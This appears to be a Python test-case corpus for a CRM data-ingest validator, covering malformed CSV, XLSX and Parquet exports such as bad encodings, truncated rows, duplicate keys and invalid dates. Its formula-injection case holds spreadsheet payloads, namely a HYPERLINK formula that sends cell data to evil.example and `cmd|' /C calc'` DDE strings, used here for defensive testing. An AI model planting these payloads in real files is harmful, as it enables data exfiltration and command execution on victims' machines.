"""The malformed-input corpus: each case copies `tests/fixtures/minimal_export` (crm/users.csv: U1, U2 in rows
2-3; crm/opportunities.csv: O1, O2, O3 in rows 2-4), changes one thing, and says what must happen.

Outcome `table_error`: `closedloop validate` and `closedloop build` exit 1 with a message matching `error`
(naming the file and, where there is one, the column), and the last good warehouse is untouched.
Outcome `rows` (no `error`): the build goes on; `counts` gives rows (read, loaded, set aside) per table,
`rejected` every row set aside as (file, Excel row or Parquet record, column or None, rule), `messages`
regexes the messages of those rows must match, `stdout` regexes the report must print, and `landed` the values
landed for a column (typed as the contract declares it), in file and row order. Row numbers are what a person uses
to find the row: the Excel row (header = row 1) for CSV and XLSX, the record number for Parquet.

The list is rendered into docs/validation.md ("The malformed-input corpus"); a test keeps the two in step.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal as D
from pathlib import Path

Mutation = Callable[[Path], None]
Rejected = tuple[str, int, str | None, str]

USERS = "crm/users.csv"
OPPS = "crm/opportunities.csv"
USERS_HEADER = ["user_id", "user_name", "department_id", "role"]
OPPS_HEADER = ["opportunity_id", "account_id", "owner_user_id", "created_at", "amount", "opportunity_type", "stage",
               "is_closed", "is_won"]
MINIMAL_USERS = [["U1", "张伟", "D1", "sales"], ["U2", "李娜", "D2", "sales"]]
MINIMAL_OPPS = [["O1", "A1", "U1", "2026-01-05T10:00:00", "100000.00", "new", "赢单", "true", "true"],
                ["O2", "A2", "U2", "2026-02-10 09:30:00", "50000", "new", "输单", "true", "false"],
                ["O3", "A3", "U1", "2026-03-01T08:00:00+08:00", "80000.5", "new", "方案交流", "false", "false"]]
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_CMD = "-2+3+cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Case:
    id: str
    input: str  # what the export looks like, for the docs table
    mutate: Mutation
    error: str | None = None  # table-level failure: regex on the message
    counts: dict[str, tuple[int, int, int]] = field(default_factory=dict)
    rejected: tuple[Rejected, ...] = ()
    messages: tuple[str, ...] = ()
    stdout: tuple[str, ...] = ()
    landed: dict[tuple[str, str], list[str | None]] = field(default_factory=dict)

    @property
    def outcome(self) -> str:
        return "table_error" if self.error else "rows"


# --- building blocks -------------------------------------------------------------------------------------------


def csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows([header, *rows])
    return buf.getvalue()


def opp(oid: str, account: str = "A1", owner: str = "U1", created: str = "2026-01-05T10:00:00",
        amount: str = "100", kind: str = "new", stage: str = "赢单", closed: str = "true", won: str = "true",
        *extra: str) -> list[str]:
    return [oid, account, owner, created, amount, kind, stage, closed, won, *extra]


def line(values: list[str], delimiter: str = ",") -> str:
    return csv_text(values, [], delimiter=delimiter)


def write(path: str, data: str | bytes, encoding: str = "utf-8") -> Mutation:
    def mutate(raw: Path) -> None:
        target = raw / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))

    return mutate


def append(path: str, *rows: list[str] | str) -> Mutation:
    def mutate(raw: Path) -> None:
        with (raw / path).open("a", encoding="utf-8", newline="") as f:
            for row in rows:
                f.write(row if isinstance(row, str) else line(row))

    return mutate


def edit(path: str, change: Callable[[bytes], bytes]) -> Mutation:
    def mutate(raw: Path) -> None:
        (raw / path).write_bytes(change((raw / path).read_bytes()))

    return mutate


def remove(path: str) -> Mutation:
    return lambda raw: (raw / path).unlink()


def both(*mutations: Mutation) -> Mutation:
    def mutate(raw: Path) -> None:
        for m in mutations:
            m(raw)

    return mutate


def nothing(raw: Path) -> None:
    return None


def xlsx(path: str, header: list[str], rows: list[list[object] | None]) -> Mutation:
    """An Excel part file; None is an empty sheet row. Text cells stay text even when they start with "="."""

    def mutate(raw: Path) -> None:
        from openpyxl import Workbook

        wb = Workbook()
        ws = wb.active
        ws.append(header)
        for r, values in enumerate(rows, start=2):
            for c, value in enumerate(values or [], start=1):
                cell = ws.cell(row=r, column=c, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"
        wb.save(raw / path)

    return mutate


def parquet(path: str, records: list[dict]) -> Mutation:
    def mutate(raw: Path) -> None:
        import pyarrow as pa
        import pyarrow.parquet as pq

        pq.write_table(pa.Table.from_pylist(records), raw / path)

    return mutate


def opps_with(extra: list[str], *rows: list[str], newline: str = "\n") -> Mutation:
    """crm/opportunities.csv rewritten with optional columns after the required ones."""
    return write(OPPS, csv_text(OPPS_HEADER + extra, [list(r) for r in rows], newline=newline))


def _truncate_mid_row(data: bytes) -> bytes:
    return data[: data.index(b"80000.5") + 4]  # the export stops in the middle of O3's amount


OK = {"crm/users": (2, 2, 0), "crm/opportunities": (3, 3, 0)}


def counts(**tables: tuple[int, int, int]) -> dict[str, tuple[int, int, int]]:
    """Row counts per table, the minimal export's by default: counts(opportunities=(4, 3, 1))."""
    out = dict(OK)
    for name, value in tables.items():
        family = ("service" if name in ("tickets", "orders") else
                  "campaign" if name in ("campaigns", "campaign_spend", "contents", "touches") else "crm")
        out[f"{family}/{name}"] = value
    return out


# --- the cases -------------------------------------------------------------------------------------------------

TABLE_ERRORS = [
    Case("empty_file", "crm/users.csv is 0 bytes", write(USERS, b""),
         error=r"crm/users\.csv: the file is empty \(no header row\)"),
    Case("empty_optional_file", "crm/leads.csv (an optional table) is 0 bytes: present but unreadable",
         write("crm/leads.csv", b""), error=r"crm/leads\.csv: the file is empty"),
    Case("wrong_delimiter", "crm/users.csv delimited by `:` (none of , tab ; |)",
         write(USERS, csv_text(USERS_HEADER, MINIMAL_USERS, delimiter=":")),
         error=r"crm/users\.csv: required column\(s\) user_id, user_name, department_id, role missing for table "
               r"`crm/users`.*read as a single column"),
    Case("utf16_without_bom", "crm/users.csv in UTF-16 LE without its byte-order mark",
         write(USERS, csv_text(USERS_HEADER, MINIMAL_USERS), encoding="utf-16-le"),
         error=r"crm/users\.csv: unreadable encoding: the header row contains NUL bytes \(UTF-16 without a "
               r"byte-order mark\?\)"),
    Case("duplicate_column_names", "crm/opportunities.csv header has `stage` and `Stage`",
         write(OPPS, csv_text([*OPPS_HEADER, "Stage"], [r + ["x"] for r in MINIMAL_OPPS])),
         error=r"crm/opportunities\.csv: column `Stage` appears twice in the header"),
    Case("unnamed_header_column", "crm/opportunities.csv header has an empty name in column 2",
         write(OPPS, csv_text([OPPS_HEADER[0], "", *OPPS_HEADER[1:]], [[r[0], "x", *r[1:]] for r in MINIMAL_OPPS])),
         error=r"crm/opportunities\.csv: column 2 of the header has no name"),
    Case("required_column_missing", "crm/opportunities.csv without its `stage` column",
         write(OPPS, csv_text([c for c in OPPS_HEADER if c != "stage"], [r[:6] + r[7:] for r in MINIMAL_OPPS])),
         error=r"crm/opportunities\.csv: required column\(s\) stage missing for table `crm/opportunities`"),
    Case("required_column_missing_in_a_part", "a second part crm/opportunities_2026-05.csv lacks `amount`",
         write("crm/opportunities_2026-05.csv",
               csv_text([c for c in OPPS_HEADER if c != "amount"], [opp("O4")[:4] + opp("O4")[5:]])),
         error=r"crm/opportunities_2026-05\.csv: required column\(s\) amount missing"),
    Case("required_table_missing", "crm/opportunities.csv removed", remove(OPPS),
         error=r"required table `crm/opportunities` is missing: no file in .*crm"),
    Case("xlsx_not_a_workbook", "crm/leads.xlsx is really CSV text", write("crm/leads.xlsx", "lead_id\nL1\n"),
         error=r"crm/leads\.xlsx: cannot be opened as an Excel workbook"),
    Case("xlsx_empty_sheet", "crm/leads.xlsx whose first sheet is empty", xlsx("crm/leads.xlsx", [], []),
         error=r"crm/leads\.xlsx: the first worksheet is empty"),
    Case("corrupt_parquet", "crm/leads.parquet is not Parquet", write("crm/leads.parquet", b"PAR1 not really"),
         error=r"crm/leads\.parquet: cannot be read as Parquet"),
]

ROWS = [
    Case("truncated_file", "crm/opportunities.csv cut off in the middle of its last row",
         edit(OPPS, _truncate_mid_row), counts=counts(opportunities=(3, 2, 1)),
         rejected=((OPPS, 4, None, "field_count"),), messages=(r"expected 9 fields, found 5",)),
    Case("truncated_inside_quotes", "crm/opportunities.csv ends inside an open quote",
         append(OPPS, 'O4,A1,U1,2026-01-05,"100'), counts=counts(opportunities=(4, 3, 1)),
         rejected=((OPPS, 5, None, "bad_quoting"),), messages=(r"unexpected end of data",)),
    Case("stray_quote", 'a row with `"A1"x` (text after a closing quote); the next row still loads',
         append(OPPS, 'O4,"A1"x,U1,2026-01-05,100,new,赢单,true,true\n', opp("O5")),
         counts=counts(opportunities=(5, 4, 1)), rejected=((OPPS, 5, None, "bad_quoting"),),
         landed={("crm/opportunities", "opportunity_id"): ["O1", "O2", "O3", "O5"]}),
    Case("extra_delimiter", "a row with 10 fields under a 9-column header", append(OPPS, opp("O4") + ["surplus"]),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, None, "field_count"),),
         messages=(r"expected 9 fields, found 10",)),
    Case("row_in_another_delimiter", "a `;`-delimited row in a `,`-delimited file",
         append(OPPS, line(opp("O4"), delimiter=";")), counts=counts(opportunities=(4, 3, 1)),
         rejected=((OPPS, 5, None, "field_count"),), messages=(r"expected 9 fields, found 1",)),
    Case("gbk_labelled_utf8", "crm/users.csv saved as GBK (Excel in China) though UTF-8 is expected",
         write(USERS, csv_text(USERS_HEADER, MINIMAL_USERS), encoding="gbk"), counts=counts(),
         landed={("crm/users", "user_name"): ["张伟", "李娜"]}),
    Case("utf8_bom", "crm/opportunities.csv with a UTF-8 byte-order mark",
         edit(OPPS, lambda b: b"\xef\xbb\xbf" + b), counts=counts(),
         landed={("crm/opportunities", "opportunity_id"): ["O1", "O2", "O3"]}),
    Case("utf16_bom_tab", "crm/users.txt: UTF-16 with BOM, tab-delimited (Excel's \"Unicode text\")",
         both(remove(USERS), write("crm/users.txt", csv_text(USERS_HEADER, MINIMAL_USERS, "\t", "\r\n"), "utf-16")),
         counts=counts(), landed={("crm/users", "user_name"): ["张伟", "李娜"]}),
    Case("crlf", "crm/opportunities.csv with CRLF line ends and a bad row 5",
         both(edit(OPPS, lambda b: b.replace(b"\n", b"\r\n")),
              append(OPPS, line(opp("O4", amount="-1")).replace("\n", "\r\n"))),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "amount", "non_negative"),),
         landed={("crm/opportunities", "is_won"): [True, False, False]}),
    Case("quoted_newlines", "opportunity names with quoted line breaks; the bad row is still row 4",
         opps_with(["opportunity_name"], MINIMAL_OPPS[0] + ["一期\n二期"], MINIMAL_OPPS[1] + ["a\r\nb\nc"],
                   opp("O3", amount="-1") + ["x"]),
         counts=counts(opportunities=(3, 2, 1)), rejected=((OPPS, 4, "amount", "non_negative"),),
         landed={("crm/opportunities", "opportunity_name"): ["一期\n二期", "a\r\nb\nc"]}),
    Case("blank_lines", "a blank line and an empty row (`,,,,,,,,`) before a bad row 7",
         append(OPPS, "\n", ",,,,,,,,\n", opp("O4", amount="-1")), counts=counts(opportunities=(4, 3, 1)),
         rejected=((OPPS, 7, "amount", "non_negative"),)),
    Case("other_delimiters", "crm/opportunities.csv `;`-delimited, crm/users.tsv tab-delimited, leads `|`",
         both(write(OPPS, csv_text(OPPS_HEADER, MINIMAL_OPPS, delimiter=";")), remove(USERS),
              write("crm/users.tsv", csv_text(USERS_HEADER, MINIMAL_USERS, delimiter="\t")),
              write("crm/leads.csv", csv_text(["lead_id", "created_at", "channel", "status", "company_name"],
                                              [["L1", "2026-01-05", "官网", "new", "甲, 乙 | 丙"]], delimiter="|"))),
         counts=counts(leads=(1, 1, 0)), landed={("crm/leads", "company_name"): ["甲, 乙 | 丙"]}),
    Case("case_insensitive_header", "header written `Opportunity_ID`, `AMOUNT` …",
         edit(OPPS, lambda b: b.replace(b"opportunity_id", b"Opportunity_ID").replace(b"amount", b"AMOUNT")),
         counts=counts(), landed={("crm/opportunities", "amount"): [D("100000.00"), D("50000.00"), D("80000.50")]}),
    Case("duplicate_keys", "O1 again at the end of crm/opportunities.csv: the last row wins",
         append(OPPS, opp("O1", amount="5")), counts=counts(opportunities=(4, 3, 1)),
         rejected=((OPPS, 2, "opportunity_id", "duplicate_key"),), messages=(r"the last row in file order is kept",),
         landed={("crm/opportunities", "amount"): [D("50000.00"), D("80000.50"), D("5.00")]}),
    Case("duplicate_key_newer_version_invalid", "O1 again at the end with amount `-5`: the earlier O1 loads",
         append(OPPS, opp("O1", amount="-5")), counts=counts(opportunities=(4, 3, 1)),
         rejected=((OPPS, 5, "amount", "non_negative"),),
         landed={("crm/opportunities", "amount"): [D("100000.00"), D("50000.00"), D("80000.50")]}),
    Case("duplicate_key_newer_version_orphan", "O1 again at the end owned by U9 (unknown): the earlier O1 loads",
         append(OPPS, opp("O1", owner="U9")), counts=counts(opportunities=(4, 3, 1)),
         rejected=((OPPS, 5, "owner_user_id", "foreign_key"),),
         landed={("crm/opportunities", "amount"): [D("100000.00"), D("50000.00"), D("80000.50")]}),
    Case("duplicate_keys_across_parts", "O2 again in a later part crm/opportunities_2026-05.csv",
         write("crm/opportunities_2026-05.csv", csv_text(OPPS_HEADER, [opp("O2", amount="7")])),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 3, "opportunity_id", "duplicate_key"),),
         landed={("crm/opportunities", "amount"): [D("100000.00"), D("80000.50"), D("7.00")]}),
    Case("duplicate_compound_key_with_an_empty_part", "stage history: O1 enters 方案交流 at the same instant twice, "
         "no owner on either row (a key part may be empty): the later row loads",
         write("crm/opportunity_stage_history.csv", csv_text(["opportunity_id", "stage", "entered_at", "amount"], [
             ["O1", "方案交流", "2026-01-06T10:00:00", "1"], ["O1", "方案交流", "2026-01-06 10:00:00", "2"],
             ["O1", "招投标", "2026-01-07T10:00:00", "3"]])),
         counts=counts(opportunity_stage_history=(3, 2, 1)),
         rejected=(("crm/opportunity_stage_history.csv", 2, "opportunity_id, stage, entered_at, owner_user_id",
                    "duplicate_key"),),
         landed={("crm/opportunity_stage_history", "amount"): [D("2.00"), D("3.00")]}),
    Case("duplicate_spend_day", "campaign spend: C1's 2026-01-05 sent twice (`2026-01-05`, then `2026/01/05` with a "
         "new figure): the later row loads (a re-sent day is its newer figure)",
         both(write("campaign/campaigns.csv", csv_text(["campaign_id", "campaign_name", "channel"],
                                                       [["C1", "春季直播", "直播"]])),
              write("campaign/campaign_spend.csv", csv_text(["campaign_id", "spend_date", "spend"], [
                  ["C1", "2026-01-05", "100"], ["C1", "2026-01-06", "200"], ["C1", "2026/01/05", "150"]]))),
         counts=counts(campaigns=(1, 1, 0), campaign_spend=(3, 2, 1)),
         rejected=(("campaign/campaign_spend.csv", 2, "campaign_id, spend_date", "duplicate_key"),),
         landed={("campaign/campaign_spend", "spend"): [D("200.00"), D("150.00")]}),
    Case("orphan_foreign_key", "an opportunity owned by U9, who is not in crm/users",
         append(OPPS, opp("O4", owner="U9")), counts=counts(opportunities=(4, 3, 1)),
         rejected=((OPPS, 5, "owner_user_id", "foreign_key"),),
         messages=(r"no crm/users\.user_id with this value was loaded",)),
    Case("orphan_of_a_rejected_parent", "O4's account A4 is itself set aside (bad created_at): O4 follows",
         both(write("crm/accounts.csv", csv_text(["account_id", "account_name", "created_at"], [
             ["A1", "甲", "2025-01-01"], ["A2", "乙", "2025-01-01"], ["A3", "丙", "2025-01-01"],
             ["A4", "丁", "2025-13-01"]])), append(OPPS, opp("O4", account="A4"))),
         counts=counts(accounts=(4, 3, 1), opportunities=(4, 3, 1)),
         rejected=(("crm/accounts.csv", 5, "created_at", "type_timestamp"), (OPPS, 5, "account_id", "foreign_key"))),
    Case("optional_foreign_key_warns", "a lead owned by U9: an optional reference, counted, the row kept",
         write("crm/leads.csv", csv_text(["lead_id", "created_at", "channel", "status", "owner_user_id"],
                                         [["L1", "2026-01-05", "官网", "new", "U9"]])),
         counts=counts(leads=(1, 1, 0)), stdout=(r"crm/leads .* warnings: foreign_key owner_user_id 1",)),
    Case("dates_three_formats", "created_at as `2026-01-05T10:00:00`, `2026/01/05` and `05/01/2026`",
         append(OPPS, opp("O4", created="2026-01-05T10:00:00"), opp("O5", created="2026/01/05"),
                opp("O6", created="05/01/2026")),
         counts=counts(opportunities=(6, 5, 1)), rejected=((OPPS, 7, "created_at", "type_timestamp"),)),
    Case("chinese_and_compact_dates", "created_at as `2026年1月5日` and `20260105`",
         append(OPPS, opp("O4", created="2026年1月5日"), opp("O5", created="20260105")),
         counts=counts(opportunities=(5, 3, 2)),
         rejected=((OPPS, 5, "created_at", "type_timestamp"), (OPPS, 6, "created_at", "type_timestamp"))),
    Case("mixed_time_zones", "one instant as `…T02:00:00Z`, `…T10:00:00+08:00`, `… 10:00:00`, `…T21:00:00-05:00`",
         append(OPPS, opp("O4", created="2026-02-01T02:00:00Z"), opp("O5", created="2026-02-01T10:00:00+08:00"),
                opp("O6", created="2026-02-01 10:00:00"), opp("O7", created="2026-01-31T21:00:00-05:00")),
         counts=counts(opportunities=(7, 7, 0))),
    Case("negative_amount", "amount `-500`", append(OPPS, opp("O4", amount="-500")),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "amount", "non_negative"),),
         messages=(r"amount is negative",)),
    Case("text_in_numeric_column", "amount `abc` and `¥12`",
         append(OPPS, opp("O4", amount="abc"), opp("O5", amount="¥12")),
         counts=counts(opportunities=(5, 3, 2)),
         rejected=((OPPS, 5, "amount", "type_number"), (OPPS, 6, "amount", "type_number")),
         messages=(r"not a number",)),
    Case("thousands_separator", 'amount `"1,200"`', append(OPPS, opp("O4", amount="1,200")),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "amount", "type_number"),),
         messages=(r"no thousands separators",)),
    Case("ten_mb_field", "a 10 MB opportunity_name (Excel holds 32,767 characters a cell)",
         opps_with(["opportunity_name"], *[r + [""] for r in MINIMAL_OPPS], opp("O4") + ["x" * (10 * 1024 * 1024)]),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "opportunity_name", "too_long"),),
         messages=(r"value has 10,485,760 characters; the limit is 32,767",)),
    Case("formula_injection", "names `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-2+3+cmd|…`; a role `=cmd|…`",
         both(append(USERS, ["U3", HYPERLINK, "D1", "sales"], ["U4", CMD, "D2", "sales"],
                     ["U5", "王芳", "D1", "=cmd|' /C calc'!A0"]),
              opps_with(["opportunity_name"], *[r + [n] for r, n in zip(MINIMAL_OPPS, [AT_SUM, MINUS_CMD, ""],
                                                                         strict=True)])),
         counts=counts(users=(5, 4, 1)), rejected=((USERS, 6, "role", "allowed_values"),),
         landed={("crm/users", "user_name"): ["张伟", "李娜", HYPERLINK, CMD],
                 ("crm/opportunities", "opportunity_name"): [AT_SUM, MINUS_CMD, None]}),
    Case("nul_byte", "a NUL byte inside a stage value", append(OPPS, opp("O4", stage="赢\x00单")),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "stage", "nul_byte"),),
         messages=(r"NUL byte",)),
    Case("header_only_optional", "crm/leads.csv with a header and no rows",
         write("crm/leads.csv", line(["lead_id", "created_at", "channel", "status"])), counts=counts(leads=(0, 0, 0)),
         stdout=(r"crm/leads +0 read +0 would load +0 set aside",)),
    Case("header_only_required", "crm/opportunities.csv with a header and no rows (a required table)",
         write(OPPS, line(OPPS_HEADER)), counts=counts(opportunities=(0, 0, 0))),
    Case("header_only_parent", "crm/users.csv header only: every opportunity's owner is now unknown",
         write(USERS, line(USERS_HEADER)), counts=counts(users=(0, 0, 0), opportunities=(3, 0, 3)),
         rejected=tuple((OPPS, r, "owner_user_id", "foreign_key") for r in (2, 3, 4))),
    Case("extra_unknown_columns", "crm/users.csv with extra columns `备注` and `wechat` (kept)",
         write(USERS, csv_text([*USERS_HEADER, "备注", "wechat"], [r + ["老客户", "wx1"] for r in MINIMAL_USERS])),
         counts=counts(),
         landed={("crm/users", "备注"): ["老客户", "老客户"], ("crm/users", "wechat"): ["wx1", "wx1"]}),
    Case("optional_table_absent", "the minimal export as it is: no crm/leads at all", nothing, counts=counts(),
         stdout=(r"crm/leads +absent", r"campaign/touches +absent")),
    Case("absent_optional_columns", "crm/leads.csv with only its required columns",
         write("crm/leads.csv", csv_text(["lead_id", "created_at", "channel", "status"],
                                         [["L1", "2026-01-05", "官网", "new"]])),
         counts=counts(leads=(1, 1, 0)),
         landed={("crm/leads", "company_name"): [None], ("crm/leads", "email"): [None]}),
    Case("whitespace_only_required", "account_id `   ` (blank after trimming)",
         append(OPPS, opp("O4", account="   ")),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "account_id", "required"),),
         messages=(r"required value is empty",)),
    Case("booleans_chinese", "is_closed/is_won as `是`/`否` (load) and `maybe` (not a boolean)",
         append(OPPS, opp("O4", closed="是", won="否"), opp("O5", closed="maybe")),
         counts=counts(opportunities=(5, 4, 1)), rejected=((OPPS, 6, "is_closed", "type_boolean"),)),
    Case("future_date", "created_at `2099-01-01`", append(OPPS, opp("O4", created="2099-01-01")),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "created_at", "future_date"),)),
    Case("closed_before_created", "close_date 2026-01-01 before created_at 2026-01-05",
         opps_with(["close_date"], *[r + [""] for r in MINIMAL_OPPS], opp("O4") + ["2026-01-01"]),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "close_date", "order"),),
         messages=(r"dates are out of order",)),
    Case("ticket_resolved_before_opened", "service/tickets.csv: T2 resolved a day before it was opened",
         write("service/tickets.csv", csv_text(["ticket_id", "account_id", "opened_at", "resolved_at"], [
             ["T1", "A1", "2026-02-01T09:00:00", "2026-02-02T09:00:00"],
             ["T2", "A1", "2026-02-05T09:00:00", "2026-02-04T09:00:00"]])),
         counts=counts(tickets=(2, 1, 1)), rejected=(("service/tickets.csv", 3, "resolved_at", "order"),)),
    Case("csat_out_of_range", "service/tickets.csv: csat 9 and 0 (1–5)",
         write("service/tickets.csv", csv_text(["ticket_id", "account_id", "opened_at", "csat"], [
             ["T1", "A1", "2026-02-01", "5"], ["T2", "A1", "2026-02-01", "9"], ["T3", "A1", "2026-02-01", "0"]])),
         counts=counts(tickets=(3, 1, 2)),
         rejected=(("service/tickets.csv", 3, "csat", "out_of_range"),
                   ("service/tickets.csv", 4, "csat", "out_of_range"))),
    Case("unknown_enum_value", "opportunity_type `big`", append(OPPS, opp("O4", kind="big")),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "opportunity_type", "allowed_values"),),
         messages=(r"not one of the allowed values \(new, renewal, upsell, cross_sell\)",)),
    Case("stage_not_in_seed", "stage `谈判中` (not in seeds/stages.csv)", append(OPPS, opp("O4", stage="谈判中")),
         counts=counts(opportunities=(4, 3, 1)), rejected=((OPPS, 5, "stage", "allowed_values"),),
         messages=(r"allowed values \(初步接洽, 需求确认, 方案交流",)),
    Case("xlsx_part", "crm/opportunities_2026-05.xlsx: typed cells, an empty sheet row, a negative amount in row 4",
         xlsx("crm/opportunities_2026-05.xlsx", OPPS_HEADER, [
             ["O4", "A1", "U1", dt.datetime(2026, 3, 1, 9, 30), 1200.5, "new", "赢单", True, True], None,
             ["O5", "A1", "U1", dt.date(2026, 3, 2), -1, "new", "赢单", "是", "否"]]),
         counts=counts(opportunities=(5, 4, 1)),
         rejected=(("crm/opportunities_2026-05.xlsx", 4, "amount", "non_negative"),),
         landed={("crm/opportunities", "created_at"): [dt.datetime(2026, 1, 5, 10), dt.datetime(2026, 2, 10, 9, 30),
                                                       dt.datetime(2026, 3, 1, 8), dt.datetime(2026, 3, 1, 9, 30)]}),
    Case("parquet_part", "crm/opportunities_2026-05.parquet: typed columns, record 2 has no owner",
         parquet("crm/opportunities_2026-05.parquet", [
             {"opportunity_id": "O4", "account_id": "A1", "owner_user_id": "U1",
              "created_at": dt.datetime(2026, 3, 1, 1, 30, tzinfo=dt.UTC), "amount": 10.25,
              "opportunity_type": "new", "stage": "赢单", "is_closed": True, "is_won": True},
             {"opportunity_id": "O5", "account_id": "A1", "owner_user_id": None,
              "created_at": dt.datetime(2026, 3, 1, 1, 30, tzinfo=dt.UTC), "amount": 10.0,
              "opportunity_type": "new", "stage": "赢单", "is_closed": True, "is_won": True}]),
         counts=counts(opportunities=(5, 4, 1)),
         rejected=(("crm/opportunities_2026-05.parquet", 2, "owner_user_id", "required"),),
         landed={("crm/opportunities", "amount"): [D("100000.00"), D("50000.00"), D("80000.50"), D("10.25")]}),
]

# The ingest lane's cases (issue 13): mixed encodings, integers, formulas, formats, unreadable parts, lineage.
from corpus.cases_ingest import ROWS_INGEST, TABLE_ERRORS_INGEST  # noqa: E402

TABLE_ERRORS += TABLE_ERRORS_INGEST
ROWS += ROWS_INGEST
CASES = TABLE_ERRORS + ROWS
from corpus.cases_ops import CASES_OPS  # noqa: E402 - issue 13, ops lane (uses the building blocks above)

CASES += CASES_OPS
from corpus.cases_values import CASES_VALUES  # noqa: E402  (issue 13: time zones, dates, numbers)

CASES += CASES_VALUES
